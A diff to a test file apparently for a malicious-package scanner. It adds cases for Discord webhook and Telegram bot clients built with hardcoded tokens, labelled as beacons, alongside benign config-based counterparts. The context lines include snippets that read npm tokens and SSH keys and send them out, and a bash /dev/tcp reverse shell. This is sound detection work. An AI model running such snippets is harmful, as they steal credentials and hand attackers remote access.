@@ -77,6 +77,11 @@ describe('each rule at its edge (edits of real shapes)', () => {
     ['the npm token file read and sent', "const t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); fetch(u, { method: 'POST', body: t })", ['exfiltration']],
     ['SSH keys read', "fs.readFileSync(path.join(home, '.ssh', 'id_rsa'))", ['credential-read']],
     ['a Discord webhook', "fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST', body: 'x' })", ['beacon']],
+    ["a Discord webhook client made with the webhook's id and token written in the code (an0n-chat-lib)", "const client = new discord_js_1.WebhookClient('766342517549301771', 'r5lqtrhieTfiwqhneOrtWQsK0WtT'); await client.send(undefined, { embeds })", ['beacon']],
+    ['the same with an options object', "new WebhookClient({ id: '766342517549301771', token: t }).send(tokens.join())", ['beacon']],
+    ["a Telegram bot made with its token written in the code", "const bot = new TelegramBot('1234567890:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0', { polling: false }); bot.sendMessage(chat, data)", ['beacon']],
+    ["a Discord webhook client made from the user's configuration (discord.js's documented use)", "const hook = new WebhookClient({ url: process.env.WEBHOOK_URL }); hook.send('deployed')", []],
+    ["a Telegram bot made from the user's token (telegraf's documented use)", "const bot = new Telegraf(process.env.BOT_TOKEN); bot.launch()", []],
     ['bash /dev/tcp', "require('child_process').exec('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')", ['reverse-shell']],
     [
       'a socket piped to a shell',
